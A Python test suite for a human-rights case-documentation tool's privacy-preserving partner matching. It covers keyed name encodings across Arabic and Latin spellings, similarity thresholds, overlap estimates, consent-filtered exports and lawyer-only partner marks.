"""Partner matching: keyed encodings, the export, the comparison and the marks lawyers see."""

from __future__ import annotations

import base64
import hashlib
import json
import random
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import Result
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from casebook.audit.models import AuditEntry
from casebook.cli import cli
from casebook.estimate.captures import captures_from_csv
from casebook.partners.compare import (
    DEFAULT_THRESHOLD,
    Linkage,
    Overlap,
    dice,
    estimate_overlap,
    link,
)
from casebook.partners.encoding import FORMAT, SCHEMA, VERSION, Encoder, ExportNames
from casebook.partners.models import PartnerMark
from casebook.partners.services import label_key
from tests.conftest import (
    UserFixture,
    bearer,
    csrf_from,
    fresh_code,
    login,
    make_user,
    minimal_case,
)

SECRET = b"0123456789abcdef0123456789abcdef-shared-by-partners"
GRANTED = {"granted": True, "date": "2024-05-01"}


def _similarity(a: bytes, b: bytes) -> float:
    x = np.frombuffer(a, np.uint8).reshape(1, -1)
    y = np.frombuffer(b, np.uint8).reshape(1, -1)
    zero = np.zeros(1, dtype=np.int64)
    return float(dice(x, y, zero, zero)[0])


PERSON = {
    "first_name": "أحمد",
    "father_name": "محمود",
    "grandfather_name": "عبد الله",
    "family_name": "الحلبي",
    "mother_name": "فاطمة",
    "birth_date": "1985",
}


def test_spelling_variants_match_and_other_people_do_not() -> None:
    enc = Encoder(SECRET)
    ours = enc.encode(PERSON, "aleppo")
    variant = enc.encode(
        {**PERSON, "first_name": "احمد", "grandfather_name": "عبدالله", "family_name": "حلبي"},
        "aleppo",
    )
    in_latin = {
        "first_name": "Ahmad",
        "father_name": "Mahmoud",
        "grandfather_name": "Abdullah",
        "family_name": "Al-Halabi",
        "mother_name": "Fatima",
        "birth_date": "1985",
    }
    # as an export does: its Latin spellings read as the Arabic names it knows (here the
    # common given names: a list written only in Latin letters)
    latin = enc.encode(in_latin, "aleppo", None, ExportNames([in_latin]))
    other = enc.encode(
        {**PERSON, "first_name": "خالد", "mother_name": "مريم", "birth_date": "1990"}, "homs"
    )
    assert _similarity(ours, variant) > 0.95
    assert _similarity(ours, latin) >= DEFAULT_THRESHOLD  # across scripts
    assert _similarity(ours, other) < DEFAULT_THRESHOLD
    assert len(ours) == SCHEMA["bits"] >> SCHEMA["fold"] >> 3


@pytest.mark.parametrize(
    ("first_name", "sex", "birth_date"),
    [
        ("محمد", "male", "1990"),  # his brother
        ("آمنة", "female", "1985"),  # his sister
    ],
)
@pytest.mark.parametrize("secret", [SECRET, b"another secret agreed by other partners 1"])
def test_a_brother_or_sister_is_not_the_same_person(
    first_name: str, sex: str, birth_date: str, secret: bytes
) -> None:
    """Brothers and sisters share the father's, grandfather's, family and mother's names, the
    governorate and often the arrest: an outside review's partner file holding only the
    brother, or only the sister, of one of our cases was counted as sharing him. The first name
    whole now weighs enough to keep them apart, while his own second record still matches. (A
    brother whose name is one letter from his is not kept apart reliably: حسين always matches,
    غسان born three years later sits at the threshold, above it for about a third of secrets:
    bench/README.md.)"""
    enc = Encoder(secret)
    him = {
        "first_name": "حسن",
        "father_name": "عبد القادر",
        "grandfather_name": "بلال",
        "family_name": "العبد الله",
        "mother_name": "هدى",
        "sex": "male",
        "birth_date": "1987",
    }
    ours = enc.encode(him, "daraa", "2012")
    sibling = {**him, "first_name": first_name, "sex": sex, "birth_date": birth_date}
    assert _similarity(ours, enc.encode(sibling, "daraa", "2012")) < DEFAULT_THRESHOLD
    again = {**him, "first_name": "حسن", "birth_date": "1988", "grandfather_name": ""}
    assert _similarity(ours, enc.encode(again, "daraa", "2012")) >= DEFAULT_THRESHOLD


def test_another_secret_gives_unrelated_encodings() -> None:
    a = Encoder(SECRET).encode(PERSON, "aleppo")
    b = Encoder(SECRET[::-1]).encode(PERSON, "aleppo")
    assert _similarity(a, b) < 0.7
    assert Encoder(SECRET).fingerprint != Encoder(SECRET[::-1]).fingerprint
    with pytest.raises(ValueError, match="at least 32"):
        Encoder(b"short")


@settings(max_examples=40, deadline=None)
@given(st.text(min_size=1, max_size=30), st.integers(1900, 2020))
def test_encoding_is_deterministic_and_fixed_width(name: str, year: int) -> None:
    enc = Encoder(SECRET)
    person = {"first_name": name, "family_name": name[::-1], "birth_date": str(year)}
    assert enc.encode(person, None) == enc.encode(dict(person), None)
    assert len(enc.encode(person, None)) == SCHEMA["bits"] >> SCHEMA["fold"] >> 3


LATIN = {
    "first_name": "Ahmad",
    "father_name": "Mahmoud",
    "grandfather_name": "Abdullah",
    "family_name": "Halabi",
    "mother_name": "Fatima",
    "birth_date": "1985",
}


def test_a_list_written_only_in_latin_letters_meets_arabic_records() -> None:
    """An organisation whose list is all in Latin letters has no Arabic spelling of its own to
    read Ahmad as أحمد: the common given names stand in, so its records still carry the Arabic
    forms that tell محمد from محمود."""
    enc = Encoder(SECRET)
    ours = enc.encode(PERSON, "aleppo", None, ExportNames([PERSON]))
    theirs = enc.encode(LATIN, "aleppo", None, ExportNames([LATIN]))
    unread = enc.encode(LATIN, "aleppo")
    assert _similarity(ours, theirs) >= 0.95
    assert _similarity(ours, theirs) > _similarity(ours, unread) + 0.1  # what reading gained
    # a Latin spelling of a brother's name is not read as his brother's
    mahmoud = enc.encode({**LATIN, "first_name": "Mahmoud"}, "aleppo", None, ExportNames([LATIN]))
    assert _similarity(ours, mahmoud) < _similarity(ours, theirs) - 0.05


def test_latin_spellings_are_read_as_the_exports_own_arabic_names() -> None:
    """A family name is no common given name: it is read through the export's own Arabic
    records (Al-Halabi as الحلبي), so a partner's Arabic record of the same person agrees."""
    enc = Encoder(SECRET)
    names = ExportNames([LATIN, {**PERSON, "first_name": "خالد"}])
    assert names.read("Halabi", True) == "الحلبي"
    assert names.read("Al-Halabi", True) == "الحلبي"
    assert names.read("Khaled", False) == "خالد"
    assert names.read("Zzyzx", False) == "Zzyzx"  # nothing near: left as written
    ours = enc.encode(PERSON, "aleppo", None, ExportNames([PERSON]))
    assert _similarity(ours, enc.encode(LATIN, "aleppo", None, names)) > 0.97


def test_father_and_grandfather_swapped_is_the_same_person() -> None:
    enc = Encoder(SECRET)
    swapped = {
        **PERSON,
        "father_name": PERSON["grandfather_name"],
        "grandfather_name": PERSON["father_name"],
    }
    assert enc.encode(PERSON, "aleppo") == enc.encode(swapped, "aleppo")
    # the mother's name is never read as a father's
    mother_as_father = {**PERSON, "father_name": PERSON["mother_name"]}
    assert enc.encode(PERSON, "aleppo") != enc.encode(mother_as_father, "aleppo")


@pytest.mark.parametrize("unknown", ["-", "غير معروف", "مجهول", "Unknown", "N/A", "لا يوجد"])
def test_a_word_for_not_known_in_a_name_field_encodes_as_no_name(unknown: str) -> None:
    """Lists write "-" or "غير معروف" where a family or mother's name is not known: encoded as
    a name it agreed between any two such strangers and disagreed with the real one."""
    enc = Encoder(SECRET)
    for part in ("family_name", "mother_name", "grandfather_name"):
        written = {**PERSON, part: unknown}
        left_out = {k: v for k, v in PERSON.items() if k != part}
        assert enc.encode(written, "aleppo", "2013") == enc.encode(left_out, "aleppo", "2013")
    # a first name not known falls back to the Latin name's first word, as an empty one does
    latin = {**PERSON, "first_name": unknown, "latin_name": "Ahmad Mahmoud al-Halabi"}
    empty = {**latin, "first_name": ""}
    assert enc.encode(latin, "aleppo") == enc.encode(empty, "aleppo")
    assert enc.encode(latin, "aleppo") != enc.encode({**latin, "latin_name": ""}, "aleppo")
    # and with no Latin name it gives no token shared by every record whose first name is so
    one = enc.encode({**PERSON, "first_name": unknown}, "aleppo")
    other = enc.encode({"first_name": "-", "family_name": "الخطيب", "birth_date": "1960"}, "homs")
    nothing = enc.encode({"first_name": "", "family_name": "الخطيب", "birth_date": "1960"}, "homs")
    assert other == nothing and _similarity(one, other) < 0.2


def test_the_grandfathers_name_given_as_family_name_is_the_same_person() -> None:
    """Families give the grandfather's name where a list asks for the family name: encoded as
    a family name it disagreed with the real one on the other list (in Latin letters too)."""
    enc = Encoder(SECRET)
    ours = enc.encode(PERSON, "aleppo", "2013")
    as_grandfather = {**PERSON, "family_name": "عبدالله"}
    no_family = {k: v for k, v in PERSON.items() if k != "family_name"}
    assert enc.encode(as_grandfather, "aleppo", "2013") == enc.encode(no_family, "aleppo", "2013")
    latin = {
        "first_name": "Ahmad",
        "father_name": "Mahmoud",
        "grandfather_name": "Abdullah",
        "family_name": "Abdallah",
        "mother_name": "Fatima",
        "birth_date": "1985",
    }
    names = ExportNames([latin])
    assert _similarity(ours, enc.encode(latin, "aleppo", "2013", names)) >= DEFAULT_THRESHOLD
    # another family name is still a difference
    other = enc.encode({**PERSON, "family_name": "الحمصي"}, "aleppo", "2013")
    assert enc.encode(as_grandfather, "aleppo", "2013") != other


@settings(max_examples=25, deadline=None)
@given(st.integers(0, 400))
def test_an_arabic_record_encodes_the_same_in_any_export(others: int) -> None:
    """Two organisations of very different sizes must encode one person alike: nothing of an
    Arabic record's encoding depends on the rest of its export."""
    enc = Encoder(SECRET)
    crowd = [
        {"first_name": "محمد", "family_name": f"العلي{i % 7}", "mother_name": "فاطمة"}
        for i in range(others)
    ]
    alone = enc.encode(PERSON, "aleppo", "2013-05", ExportNames([PERSON]))
    among = enc.encode(PERSON, "aleppo", "2013-05", ExportNames([PERSON, *crowd]))
    assert alone == among


WIDTH = SCHEMA["bits"] >> SCHEMA["fold"]  # published bits
SET = WIDTH // 5  # about a fifth of an encoding's bits are set


def _bits(rows: list[list[int]]) -> Any:
    out = np.zeros((len(rows), WIDTH // 8), dtype=np.uint8)
    for i, positions in enumerate(rows):
        for p in positions:
            out[i, p >> 3] |= 1 << (7 - (p & 7))
    return out


def test_three_lists_cluster_one_to_one_and_count_patterns() -> None:
    rng = np.random.default_rng(1)
    people = [sorted(rng.choice(WIDTH, SET, replace=False).tolist()) for _ in range(6)]
    # person 0 on all three lists, 1 on lists 1 and 2, 2 on lists 1 and 3, 3..5 alone
    lists = [
        _bits([people[0], people[1], people[2], people[3]]),
        _bits([people[1], people[0], people[4]]),
        _bits([people[2], people[0], people[5], people[0][:-10]]),  # a near-copy of person 0
    ]
    result = link(lists, 0.8)
    assert result.patterns() == {
        "111": 1,
        "110": 1,
        "101": 1,
        "100": 1,
        "011": 0,
        "010": 1,
        "001": 2,
    }
    for cluster in result.clusters:
        assert len({d for d, _ in cluster}) == len(cluster)  # at most one record per list
    assert result.matched(0) == {0: [1, 2], 1: [1], 2: [2]}


def test_a_record_with_many_look_alikes_needs_more_to_match() -> None:
    """Every محمد born in 1980 resembles every other: a pair that would match between two rare
    people does not match when one of them has a crowd of look-alikes on the other list."""
    rng = np.random.default_rng(7)

    def near(base: list[int], keep: int) -> list[int]:
        others = sorted(set(range(WIDTH)) - set(base))
        return sorted(
            rng.choice(base, keep, replace=False).tolist()
            + rng.choice(others, len(base) - keep, replace=False).tolist()
        )

    person = sorted(rng.choice(WIDTH, SET, replace=False).tolist())
    copy = near(person, round(SET * 0.77))  # Dice 0.77: an erroneous copy, or a look-alike
    alone = link([_bits([person]), _bits([copy])], DEFAULT_THRESHOLD)
    assert alone.patterns()["11"] == 1
    crowd = [near(person, round(SET * 0.72)) for _ in range(30)]  # Dice 0.72: common names
    crowded = link([_bits([person]), _bits([copy, *crowd])], DEFAULT_THRESHOLD)
    assert crowded.patterns()["11"] == 0
    assert (
        dice(_bits([person]), _bits([copy]), np.zeros(1, np.int64), np.zeros(1, np.int64))[0]
        >= DEFAULT_THRESHOLD
    )  # the raw similarity alone would have matched them


# -- the overlap estimate -------------------------------------------------------------------------


def _records_with_rates(
    rng: np.random.Generator, size_x: int, size_y: int, shared: int, density: float
) -> tuple[np.ndarray, ...]:
    """Best similarities as the comparison reads them, drawn from known rates: every person
    has look-alikes among other people at `density` per record of a list (so a record finds
    one among n others with probability 1 - (1 - density)^n), and a shared person's record
    finds him on the other list 99.5% of the time."""
    hit, miss = 0.9, 0.0

    def look(records: int, others: int) -> np.ndarray:
        p = 1 - (1 - density) ** others
        return np.where(rng.random(records) < p, hit, miss).astype(np.float32)

    def side(size: int, other: int) -> np.ndarray:
        best = look(size, other)
        found = rng.random(shared) < 0.995
        best[:shared] = np.where(found, hit, best[:shared])
        return best

    return (
        side(size_x, size_y),
        side(size_y, size_x),
        look(size_x, size_x - 1),
        look(size_y, size_y - 1),
    )


@pytest.mark.parametrize(
    ("size_x", "size_y", "shared", "density"),
    [(5000, 5000, 1500, 1e-4), (2000, 12000, 900, 5e-5), (20000, 20000, 2000, 2e-5)],
)
def test_the_overlap_estimate_and_its_standard_error_are_honest(
    size_x: int, size_y: int, shared: int, density: float
) -> None:
    """On lists drawn from one population at known rates (equal sizes, one six times the other,
    a tenth shared), the estimate is unbiased, falls within two standard errors of the truth
    about 95% of the time, and its two sides are rarely taken for lists of two populations."""
    rng = np.random.default_rng(size_x + size_y)
    estimates, inside, unsure = [], 0, 0
    for _ in range(300):
        best_x, best_y, own_x, own_y = _records_with_rates(rng, size_x, size_y, shared, density)
        o = estimate_overlap(best_x, best_y, own_x, own_y, shared, 0, 1)
        assert o.estimate is not None and o.error > 0
        estimates.append(o.estimate)
        inside += abs(o.estimate - shared) <= 2 * o.error
        unsure += o.why in ("sides_apart", "below_matched")
    assert abs(np.mean(estimates) - shared) < 0.01 * shared
    assert 0.88 <= inside / 300 <= 0.995
    assert unsure <= 6


@settings(max_examples=60, deadline=None)
@given(
    shared=st.integers(0, 1500),
    matched=st.integers(0, 1500),
    density=st.floats(1e-6, 3e-4),
    seed=st.integers(0, 2**16),
)
def test_the_count_is_never_below_the_people_matched(
    shared: int, matched: int, density: float, seed: int
) -> None:
    """Whatever the estimate reads, the count given is the matched people or more: an estimate
    below them is noise or a broken premise, never a reason to count fewer."""
    rng = np.random.default_rng(seed)
    best_x, best_y, own_x, own_y = _records_with_rates(rng, 3000, 3000, shared, density)
    o = estimate_overlap(best_x, best_y, own_x, own_y, matched, 0, 1)
    assert o.counted >= matched
    assert (o.counted == matched) == (o.why != "estimated")


def test_small_lists_are_not_estimated() -> None:
    rng = np.random.default_rng(3)
    best_x, best_y, own_x, own_y = _records_with_rates(rng, 999, 5000, 300, 1e-4)
    o = estimate_overlap(best_x, best_y, own_x, own_y, 280, 0, 1)
    assert (o.estimate, o.why, o.counted) == (None, "too_few_records", 280)


@pytest.mark.parametrize("counted", [(900, 700, 650), (1200, 300, 0), (0, 0, 0)])
def test_three_lists_raked_to_their_counted_overlaps_keep_every_list_whole(
    counted: tuple[int, int, int],
) -> None:
    """Each list's size holds exactly in the raked patterns, and each pair's counted overlap
    within rounding, whatever was matched."""
    sizes = [3000, 2500, 2000]
    clusters = [[(0, i), (1, i)] for i in range(600)] + [[(0, 600 + i), (2, i)] for i in range(500)]
    clusters += [[(0, 1100 + i), (1, 600 + i), (2, 500 + i)] for i in range(200)]
    linkage = Linkage(sizes=sizes, clusters=clusters)
    pairs = [(0, 1), (0, 2), (1, 2)]
    linkage.overlaps = [
        Overlap(pair, 0, estimate=float(n), sides=(n, n), why="estimated")
        for pair, n in zip(pairs, counted, strict=True)
    ]
    raked = linkage.estimated_patterns()
    for d, size in enumerate(sizes):  # exactly: a list holds its records whatever the rounding
        assert sum(n for k, n in raked.items() if k[d] == "1") == size
    for (x, y), n in zip(pairs, counted, strict=True):
        assert abs(sum(m for k, m in raked.items() if k[x] == k[y] == "1") - n) <= 4
    assert all(n >= 0 for n in raked.values())


def test_a_small_list_beside_two_large_ones_leaves_their_pair_estimated() -> None:
    """Three lists, one under the size an estimate needs: its pairs count the matched people,
    the two large lists' pair is estimated as ever, and every list holds its records."""
    rng = np.random.default_rng(11)
    people = [sorted(rng.choice(WIDTH, SET, replace=False).tolist()) for _ in range(2600)]
    lists = [
        _bits(people[:1200]),
        _bits(people[600:1800]),
        _bits(people[1500:1800] + people[2400:2600]),  # 500 records, 300 shared with list 2
    ]
    result = link(lists)
    whys = {o.lists: o.why for o in result.overlaps}
    assert whys[(0, 2)] == whys[(1, 2)] == "too_few_records"
    large = next(o for o in result.overlaps if o.lists == (0, 1))
    assert large.estimate is not None and abs(large.estimate - 600) < 30
    counted = result.estimated_patterns()
    for d, records in enumerate(lists):
        assert sum(n for k, n in counted.items() if k[d] == "1") == len(records)


def _draw_files(
    tmp_path: Path, lists: list[list[dict[str, Any]]], labels: tuple[str, ...]
) -> list[Path]:
    """Partner files of the benchmark's synthetic lists, each encoded knowing its own names."""
    enc = Encoder(SECRET)
    paths = []
    for records, label in zip(lists, labels, strict=True):
        names = ExportNames(r["person"] for r in records)
        clks = [
            enc.encode(r["person"], r["arrest"]["governorate"], r["arrest"]["date"], names)
            for r in records
        ]
        paths.append(_write_partner_file(tmp_path / f"{label}.json", enc, clks, label))
    return paths


@pytest.mark.parametrize("seed", [1, 3])
def test_a_crowded_population_counts_the_shared_people_matching_misses(
    app: Flask, tmp_path: Path, seed: int
) -> None:
    """Two lists of 20,000 drawn where محمد is a third of men's first names: one-to-one matching
    finds nine in ten of the shared people (the rest are too like others to tell apart); the
    counts given are within 5% of the truth, said to be estimated, and the matched ones stand
    beside them."""
    from bench.partners import population_lists

    lists = population_lists(20_000, 2, 0.3, seed, "skewed", 0.1)
    shared = len({r["id"] for r in lists[0]} & {r["id"] for r in lists[1]})
    ours, theirs = _draw_files(tmp_path, lists, ("A", "B"))
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
    assert out.exit_code == 0, out.output
    body = json.loads(out.stdout.splitlines()[0])
    assert body["estimated"] is True
    (overlap,) = body["overlaps"]
    assert overlap["counted_as"] == "estimated" and overlap["why"] == "estimated"
    assert abs(body["patterns"]["11"] - shared) <= 0.05 * shared
    assert body["matched_patterns"]["11"] < 0.93 * shared  # what matching alone would say
    assert body["patterns"]["10"] == len(lists[0]) - body["patterns"]["11"]
    assert body["patterns"]["01"] == len(lists[1]) - body["patterns"]["11"]
    assert f"A and B: about {overlap['counted']} people shared" in out.stderr
    csv_out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "csv")
    histories = captures_from_csv(csv_out.stdout)  # what `casebook estimate` reads
    assert histories.lists == ("A", "B") and histories.overlap() == body["patterns"]["11"]
    text = _invoke(app, "partners", "compare", str(ours), str(theirs))
    assert text.stdout.splitlines()[:2] == [
        "A\tB\tpeople\tmatched",
        f"1\t1\t{body['patterns']['11']}\t{body['matched_patterns']['11']}",
    ]


def test_lists_of_two_regions_keep_the_matched_count_and_say_why(
    app: Flask, tmp_path: Path
) -> None:
    """One organisation documents mostly the north, the other mostly the south: a record's
    look-alikes among its own list say little of the other list, the estimate reads far fewer
    shared people than were matched, and the comparison counts the matched ones and warns."""
    from bench.partners import population_lists
    from tests.linkage.generator import GOVERNORATES

    rng = random.Random(5)
    north = set(GOVERNORATES[:7])
    pool = population_lists(6000, 2, 0.5, 1, "plain", 0.1)
    lists = [
        [
            r
            for r in records
            if rng.random() < (0.9 if (r["truth"][1]["governorate"] in north) == (d == 0) else 0.1)
        ]
        for d, records in enumerate(pool)
    ]
    ours, theirs = _draw_files(tmp_path, lists, ("North", "South"))
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
    assert out.exit_code == 0, out.output
    body = json.loads(out.stdout.splitlines()[0])
    assert body["estimated"] is False
    assert body["patterns"] == body["matched_patterns"]
    (overlap,) = body["overlaps"]
    assert overlap["counted_as"] == "matched" and overlap["why"] == "below_matched"
    warned = [line for line in out.stderr.splitlines() if "could not be estimated" in line]
    assert len(warned) == 1 and "North.json and South.json" in warned[0], out.stderr
    assert "lists of different regions or periods" in warned[0] and "a floor" in warned[0]
    assert body["warnings"] == [warned[0].removeprefix("warning: ")]  # in the JSON too


@pytest.mark.parametrize("copies", ["alike", "apart"])
def test_lists_whose_copies_of_a_person_differ_much_are_said_to_count_far_below(
    app: Flask, tmp_path: Path, copies: str
) -> None:
    """Two lists of the same 300 people. Where the second list's copy of a person lacks two of
    grandfather, mother and birth date, and half of them give another governorate, many
    matched pairs are only just alike enough and many shared people fall below the threshold
    unseen: the comparison says its counts are floors well below the truth. Copies with the
    benchmark's spelling errors are not warned of."""
    from tests.linkage.generator import GOVERNORATES, _edit, _person

    rng = random.Random(3)
    ours, theirs = [], []
    for _ in range(300):
        person, governorate = _person(rng), rng.choice(GOVERNORATES)
        ours.append((dict(person), governorate))
        copy = dict(person)
        if copies == "apart":
            for part in rng.sample(["grandfather_name", "mother_name", "birth_date"], 2):
                copy.pop(part, None)
            if rng.random() < 0.5:
                governorate = rng.choice(GOVERNORATES)
        elif rng.random() < 0.6:
            arrest = {"governorate": governorate, "date": "2015"}
            _edit(rng, copy, arrest)
            governorate = arrest["governorate"]
        theirs.append((copy, governorate))
    a = _partner_file(tmp_path / "A.json", ours, "A")
    b = _partner_file(tmp_path / "B.json", theirs, "B")
    out = _invoke(app, "partners", "compare", str(a), str(b), "--format", "json")
    assert out.exit_code == 0, out.output
    (overlap,) = json.loads(out.stdout.splitlines()[0])["overlaps"]
    warned = [line for line in out.stderr.splitlines() if "only just alike enough" in line]
    pair = [line for line in out.stderr.splitlines() if line.startswith("A and B: ")]
    if copies == "apart":
        assert overlap["matched"] < 0.9 * 300 and overlap["near_threshold"] >= 0.15
        assert overlap["below_truth"] == "likely_far_below"
        assert len(warned) == 1 and "matched between A.json and B.json" in warned[0], out.stderr
        assert "floors well below the truth" in warned[0]
        assert len(pair) == 1 and pair[0].endswith("likely far below the truth: see the warning")
    else:
        assert overlap["matched"] > 0.95 * 300 and overlap["near_threshold"] < 0.1
        assert overlap["below_truth"] is None
        assert warned == [] and len(pair) == 1 and "truth" not in pair[0], out.stderr
    # the warning travels with the counts: the CSV carries it, and `casebook estimate` says it
    csv_out = _invoke(app, "partners", "compare", str(a), str(b), "--format", "csv")
    (tmp_path / "counts.csv").write_text(csv_out.stdout)
    counts = captures_from_csv(csv_out.stdout)
    assert int(counts.counts.sum()) == 600 - overlap["counted"]
    estimate = _invoke(app, "estimate", str(tmp_path / "counts.csv"), "--format", "json")
    said = [w for w in json.loads(estimate.stdout)["warnings"] if "only just alike" in w]
    assert len(said) == (1 if copies == "apart" else 0), estimate.output


# -- the commands, end to end ---------------------------------------------------------------------


def _invoke(app: Flask, *args: str) -> Result:
    return app.test_cli_runner().invoke(cli, list(args))


def _secret_file(tmp_path: Path, data: bytes = SECRET, mode: int = 0o600) -> Path:
    path = tmp_path / "secret"
    path.write_bytes(data)
    path.chmod(mode)
    return path


def _record_id(path: Path, number: int) -> str:
    """An id as casebook writes them (32 lowercase hexadecimal digits), one per file and row."""
    return hashlib.sha256(f"{path.name}/{number}".encode()).hexdigest()[:32]


def _partner_file(path: Path, people: list[tuple[dict[str, Any], str]], label: str) -> Path:
    """Another organisation's export, made with the same schema and secret (and, as casebook
    does, knowing its own names before encoding any)."""
    enc = Encoder(SECRET)
    names = ExportNames(p for p, _ in people)
    return _write_partner_file(path, enc, [enc.encode(p, g, None, names) for p, g in people], label)


def _write_partner_file(path: Path, enc: Encoder, clks: list[bytes], label: str) -> Path:
    """A partner file as casebook writes them, holding these encodings."""
    path.write_text(
        json.dumps(
            {
                "format": FORMAT,
                "version": VERSION,
                "label": label,
                "schema": SCHEMA,
                "fingerprint": enc.fingerprint,
                "export": str(uuid.uuid5(uuid.NAMESPACE_URL, path.name)),
                "count": len(clks),
                "records": [
                    {"id": _record_id(path, i), "clk": base64.b64encode(c).decode()}
                    for i, c in enumerate(clks)
                ],
            }
        )
    )
    return path


def _new_process(app: Flask) -> None:
    """`casebook partners compare` runs in a process of its own, whose key cache is empty:
    the data keys were cached here only because the test just created the cases."""
    app.extensions["casebook.vault"].forget_all()


def _cases(app: Flask, client: FlaskClient) -> tuple[dict[str, dict[str, Any]], UserFixture]:
    documenter = make_user(app, "documenter")
    h = bearer(app, documenter)
    made = {}
    for key, person, consent in (
        ("consenting", PERSON, {"partner_matching": GRANTED}),
        (
            "revoked",
            {**PERSON, "first_name": "خالد", "birth_date": "1970"},
            {"partner_matching": {"granted": False, "date": "2024-06-01"}},
        ),
        ("silent", {**PERSON, "first_name": "يوسف", "birth_date": "1999"}, {}),
    ):
        case = minimal_case(**person)
        case["consent"] = {**case["consent"], **consent}  # type: ignore[dict-item]
        resp = client.post("/api/v1/cases", json=case, headers=h)
        assert resp.status_code == 201, resp.get_json()
        made[key] = resp.get_json()
    return made, documenter


def test_export_compare_and_mark_for_lawyers(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    made, documenter = _cases(app, client)
    secret = _secret_file(tmp_path)
    ours = tmp_path / "ours.json"
    out = _invoke(
        app, "partners", "export", "-o", str(ours), "--secret-file", str(secret), "--label", "Us"
    )
    assert out.exit_code == 0, out.output
    assert "1 case exported" in out.output and "2 left out without consent" in out.output
    doc = json.loads(ours.read_text())
    assert doc["count"] == 1 and doc["schema"] == SCHEMA
    text = ours.read_text()
    for case in made.values():  # no case id or reference in the file
        assert case["id"] not in text and case["reference"] not in text
        assert case["id"].replace("-", "") not in text

    theirs = _partner_file(
        tmp_path / "theirs.json",
        [
            (
                {
                    "first_name": "Ahmad",
                    "father_name": "Mahmoud",
                    "grandfather_name": "Abdullah",
                    "family_name": "Halabi",
                    "mother_name": "Fatima",
                    "birth_date": "1985",
                },
                "aleppo",
            ),
            ({"first_name": "سمير", "family_name": "الخطيب", "birth_date": "1960"}, "daraa"),
        ],
        label="Partner Org",
    )
    _new_process(app)
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
    assert out.exit_code == 0, out.output
    counts = json.loads(out.stdout.splitlines()[0])
    assert counts == {
        "lists": ["Us", "Partner Org"],
        "patterns": {"11": 1, "10": 0, "01": 1},
        # two records a list are too few to estimate from: the counts are the matched ones
        "estimated": False,
        "matched_patterns": {"11": 1, "10": 0, "01": 1},
        "overlaps": [
            {
                "lists": ["Us", "Partner Org"],
                "counted": 1,
                "counted_as": "matched",
                "matched": 1,
                "estimate": None,
                "standard_error": None,
                "sides": None,
                "why": "too_few_records",
                "near_threshold": None,  # too few matched to say
                "below_truth": None,
            }
        ],
        "warnings": [],
    }
    assert (
        "Us and Partner Org: 1 person matched one to one, counted (under 1000 records a list: "
        "not estimated)" in out.stderr
    )
    assert "Both are floors" in out.stderr
    again = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "csv")
    assert again.stdout.splitlines()[:3] == ["Us,Partner Org,count", "1,1,1", "1,0,0"]
    assert "0 new marks" in again.output  # comparing again adds no second mark

    with app.extensions["casebook.db"].sessionmaker() as s:
        marks = s.scalars(select(PartnerMark)).all()
        assert len(marks) == 1 and str(marks[0].case_id) == made["consenting"]["id"]
        assert b"Partner Org" not in marks[0].body_enc  # sealed
        entries = s.scalars(select(AuditEntry).where(AuditEntry.action.like("partners.%"))).all()
        assert [e.action for e in entries][-3:] == [
            "partners.export",
            "partners.compare",
            "partners.compare",
        ]
        assert all("Partner" not in e.details and "أحمد" not in e.details for e in entries)

    lawyer = make_user(app, "lawyer")
    login(client, lawyer)
    page = client.get(f"/cases/{made['consenting']['id']}").get_data(as_text=True)
    assert "Also documented by" in page and "Partner Org" in page
    own = app.test_client()
    login(own, documenter)
    page = own.get(f"/cases/{made['consenting']['id']}")
    assert page.status_code == 200 and "Partner Org" not in page.get_data(as_text=True)
    # the API gives lawyers the same marks (a tool reading cases need not scrape the page)
    url = f"/api/v1/cases/{made['consenting']['id']}"
    shown = client.get(url, headers=bearer(app, lawyer)).get_json()
    assert [m["label"] for m in shown["partner_marks"]] == ["Partner Org"]
    assert "partner_marks" not in own.get(url, headers=bearer(app, documenter)).get_json()
    unmarked = client.get(f"/api/v1/cases/{made['silent']['id']}", headers=bearer(app, lawyer))
    assert unmarked.get_json()["partner_marks"] == []


def test_lawyers_list_the_cases_partners_also_document(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """The case list's partner filter: a lawyer lists the cases a partner's list also holds (on
    the page and through the API, alone or with a name or reference), not while the family's
    consent is withdrawn; a documenter, who never sees marks, is refused the filter."""
    made, documenter = _cases(app, client)
    secret = _secret_file(tmp_path)
    ours = tmp_path / "ours.json"
    out = _invoke(app, "partners", "export", "-o", str(ours), "--secret-file", str(secret))
    assert out.exit_code == 0, out.output
    theirs = _partner_file(tmp_path / "theirs.json", [(PERSON, "aleppo")], "Partner Org")
    _new_process(app)
    assert "1 new mark " in _invoke(app, "partners", "compare", str(ours), str(theirs)).output
    marked = made["consenting"]
    lawyer = bearer(app, make_user(app, "lawyer"))

    def listed(query: dict[str, Any], headers: dict[str, str] = lawyer) -> Any:
        return client.post("/api/v1/cases/search", json=query, headers=headers)

    every = listed({}).get_json()
    assert every["total"] == 3
    body = listed({"partner": True}).get_json()
    assert (body["total"], [i["id"] for i in body["items"]]) == (1, [marked["id"]])
    got = client.get("/api/v1/cases", query_string={"partner": "true"}, headers=lawyer)
    assert [i["id"] for i in got.get_json()["items"]] == [marked["id"]]
    assert listed({"partner": True, "q": "أحمد الحلبي"}).get_json()["total"] == 1
    assert listed({"partner": True, "q": marked["reference"]}).get_json()["total"] == 1
    other = listed({"partner": True, "q": "يوسف الحلبي"}).get_json()
    assert other["total"] == 0 and "other fields of the search" in other["hint"]
    assert listed({"q": "يوسف الحلبي"}).get_json()["total"] == 1

    page_client = app.test_client()
    login(page_client, make_user(app, "lawyer"))
    form = page_client.get("/cases/").get_data(as_text=True)
    assert 'name="partner"' in form
    page = page_client.post(
        "/cases/", data={"csrf_token": csrf_from(form), "partner": "yes"}
    ).get_data(as_text=True)
    assert marked["reference"] in page
    assert made["silent"]["reference"] not in page and made["revoked"]["reference"] not in page

    own = app.test_client()
    login(own, documenter)
    form = own.get("/cases/").get_data(as_text=True)
    assert 'name="partner"' not in form
